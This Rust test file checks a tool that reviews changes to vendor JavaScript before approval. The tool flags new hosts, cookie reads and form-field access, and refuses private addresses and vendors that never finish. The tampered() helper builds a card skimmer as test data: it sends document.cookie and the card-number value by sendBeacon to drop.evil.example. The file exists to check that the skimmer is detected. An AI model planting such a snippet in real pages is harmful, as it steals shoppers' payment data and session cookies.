//! What `approve` shows of new code before it asks, and what it refuses to fetch.

use serde_json::Value;

use super::commands::{run, stderr};
use super::folder::{Folder, POLICY};
use super::vendor::{Vendor, bad_vendors};

fn shop() -> Folder {
    let folder = Folder::empty();
    folder.write("policies/shop.toml", POLICY);
    folder
}

fn approve(folder: &Folder, code: impl AsRef<[u8]>, more: &[&str]) -> (Option<i32>, String, Value) {
    folder.write("chat.js", code);
    let arguments = ["approve", "chat", "--file", "chat.js", "--because", "a release", "--yes", "--json"];
    let output = run(folder, &[&arguments[..], more].concat(), "");
    let json = serde_json::from_slice(&output.stdout).unwrap_or(Value::Null);
    (output.status.code(), stderr(&output), json)
}

/// Minified, as vendors send it.
const CHAT: &str = "(function(){var o=function(m){return m+1};window.chat={say:o,open:function(){o(2)}}})();";

/// The same, and what a thief adds.
fn tampered() -> String {
    let theft = "document.querySelector('form').addEventListener('submit',function(){navigator.sendBeacon(\
                 'https://'+'drop.evil.example/c',document.cookie+document.getElementById('card-number').value)});";
    CHAT.replace("window.chat=", &format!("{theft}window.chat="))
}

#[test]
fn what_new_code_reaches_that_the_approved_did_not_is_said_first() {
    let folder = shop();
    let (code, first, json) = approve(&folder, CHAT, &[]);
    assert_eq!(code, Some(0), "{first}");
    assert!(first.contains("reaches nothing that was looked for") && !first.contains("NEW"), "{first}");
    assert_eq!(json["review"]["before"], "nothing");

    let (code, said, json) = approve(&folder, tampered(), &[]);
    assert_eq!(code, Some(0), "{said}");
    let new = said.split("NEW: it reaches what the approved code did not").nth(1).expect("something new");
    for thing in [
        "names hosts: https://drop.evil.example",
        "sends or loads by: sendBeacon",
        "cookies: reads document.cookie",
        "form fields: listens to `submit`",
        "form fields: looks up `card-number`",
        "form fields: reads value",
    ] {
        assert!(new.contains(thing), "{thing}: {said}");
    }
    // Minified code differs by lines that people can read, not by its one line.
    assert!(
        said.contains("\n+\t\tnavigator.sendBeacon(") && said.contains("\n \tvar o = function(m)"),
        "{said}"
    );
    let newly = json["review"]["before"]["newly_reached"].as_array().unwrap();
    assert!(newly.iter().any(|item| item["thing"] == "https://drop.evil.example"), "{json}");
    assert!(json["review"]["before"]["difference"]["added"].as_u64().unwrap() > 2);

    let (_, back, _) = approve(&folder, CHAT, &[]);
    assert!(back.contains("reaches nothing that the approved code did not"), "{back}");
    assert!(back.contains("no longer: https://drop.evil.example"), "{back}");
}

#[test]
fn the_same_code_written_differently_is_told_as_such() {
    let folder = shop();
    approve(&folder, "function a(b){return b+1}", &[]);
    let (_, said, _) = approve(&folder, "function a(b) {\n    return b + 1;\n}\n", &[]);
    assert!(said.contains("changed since the last approval"), "{said}");
    assert!(said.contains("the code is the same once it is formatted"), "{said}");
}

#[test]
fn a_long_difference_is_cut_unless_all_of_it_is_asked_for() {
    let folder = shop();
    approve(&folder, "a(0)", &[]);
    let long: String =
        (0..1000).flat_map(|number| ["a(".to_owned(), number.to_string(), ");".to_owned()]).collect();
    let (_, said, _) = approve(&folder, &long, &[]);
    assert!(said.contains("more lines of difference: --full-diff shows all"), "{said}");
    assert!(!said.contains("+a(999);"), "{said}");
    approve(&folder, "a(0)", &[]);
    let (_, said, _) = approve(&folder, &long, &["--full-diff"]);
    assert!(said.contains("+a(999);"), "{said}");
}

#[test]
fn code_that_can_not_be_parsed_is_compared_as_it_is() {
    let folder = shop();
    approve(&folder, "a(1)\n", &[]);
    let (code, said, _) = approve(&folder, "a(1)\nif ((( 'https://evil.example/'\n", &[]);
    assert_eq!(code, Some(0), "{said}");
    assert!(said.contains("could not be parsed, because it is not valid JavaScript"), "{said}");
    assert!(said.contains("names hosts: https://evil.example"), "{said}");
    assert!(said.contains("as it came, because one of the two could not be parsed"), "{said}");
}

#[test]
fn code_nested_too_deeply_to_be_parsed_stops_nobody() {
    let folder = shop();
    approve(&folder, "a(1)", &[]);
    for (piece, parses) in [
        ("(", false),
        ("[", false),
        ("{", false),
        ("a=>", false),
        ("`${", false),
        ("a?b:", false),
        // Cheap enough to be parsed at any depth that fits.
        ("!", true),
    ] {
        let deep = piece.repeat((2 << 20) / piece.len());
        let (code, said, _) = approve(&folder, format!("{deep}1"), &[]);
        assert_eq!(code, Some(0), "{piece}");
        assert_eq!(!said.contains("the code could not be parsed, because"), parses, "{piece}");
    }
}

#[test]
fn a_vendor_that_does_not_end_is_refused_with_the_limit_named() {
    for (name, vendor, limit) in bad_vendors() {
        let folder = shop();
        let chat = POLICY.replace("https://cdn.example/chat.js", &vendor.url("/chat.js"));
        folder.write("policies/shop.toml", chat);
        let arguments = ["approve", "chat", "--because", "x", "--yes", "--allow-private", "--timeout", "1"];
        // The big one may take longer than a second on a busy machine, and then meets the other limit.
        let patience = if limit.contains("second") { "1" } else { "60" };
        let arguments = arguments.map(|argument| if argument == "1" { patience } else { argument });
        let output = run(&folder, &arguments, "");
        assert_eq!(output.status.code(), Some(2), "{name}: {}", stderr(&output));
        assert!(stderr(&output).contains(limit), "{name}: {}", stderr(&output));
        assert!(!folder.join("policies/shop.lock").exists(), "{name}");
    }
}

#[test]
fn a_private_address_is_refused_unless_it_is_meant() {
    let vendor =
        Vendor::answering(|_| ("200 OK\r\ncontent-type: text/javascript".to_owned(), b"a()".to_vec()));
    let folder = shop();
    folder
        .write("policies/shop.toml", POLICY.replace("https://cdn.example/chat.js", &vendor.url("/chat.js")));
    let arguments = ["approve", "chat", "--because", "x", "--yes"];
    let output = run(&folder, &arguments, "");
    assert_eq!(output.status.code(), Some(2));
    let said = stderr(&output);
    assert!(
        said.contains("127.0.0.1, which is not a public address") && said.contains("--allow-private"),
        "{said}"
    );
    assert_eq!(vendor.requests(), [""; 0], "it was not even asked");
    assert_eq!(run(&folder, &[&arguments[..], &["--allow-private"]].concat(), "").status.code(), Some(0));
}

#[test]
fn a_mirrored_script_that_looks_for_its_own_address_is_told_as_such() {
    for (tier, code, told) in [
        ("mirror", "load(document.currentScript.src + '/../style.css')", true),
        ("mirror", "load('/style.css')", false),
        ("pin\"\non-drift = \"mirror", "load(new URL('a.css', import.meta.url))", true),
        ("pin", "load(document.currentScript.src)", false),
    ] {
        let folder = Folder::empty();
        let policy = format!(
            "hosts = [\"shop.example\"]\nupstreams = [\"http://127.0.0.1:3000\"]\n[[script]]\nid = \"chat\"\n\
             url = \"https://cdn.example/chat.js\"\ntier = \"{tier}\"\nwhy = \"Chat\"\n"
        );
        folder.write("policies/shop.toml", policy);
        folder.write("chat.js", code);
        let approve = ["approve", "chat", "--file", "chat.js", "--because", "a test", "--yes"];
        let output = run(&folder, &approve, "");
        let said = stderr(&output);
        assert_eq!(output.status.code(), Some(0), "{said}");
        assert_eq!(said.contains("it looks for its own address: "), told, "{tier} {code}: {said}");
    }
}
